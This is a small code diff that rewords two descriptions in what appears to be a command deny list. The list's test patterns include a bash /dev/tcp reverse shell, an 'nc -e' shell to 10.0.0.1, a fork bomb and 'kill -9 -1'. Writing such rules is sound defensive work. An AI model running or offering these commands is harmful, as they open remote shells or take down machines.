@@ -91,7 +91,7 @@ def command_rules(source: str) -> tuple[CommandRule, ...]:
         CommandRule(
             "stops-the-machine",
             "deny",
-            "it stops the machine, or all that runs on it",
+            "it stops the machine, or every program on it",
             _found("stops-the-machine"),
             match=("shutdown -h now", "kill -9 -1", ":(){ :|:& };:"),
             not_match=("kill 4711", "echo reboot", "f() { ls | cat; }; f"),
@@ -100,7 +100,7 @@ def command_rules(source: str) -> tuple[CommandRule, ...]:
         CommandRule(
             "opens-a-door",
             "deny",
-            "it gives somebody on the network a shell on this machine",
+            "it gives another machine a shell on this one",
             _found("opens-a-door"),
             match=("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "nc -e /bin/sh 10.0.0.1 4242"),
             not_match=("bash build.sh > /dev/null", "nc -z localhost 80"),
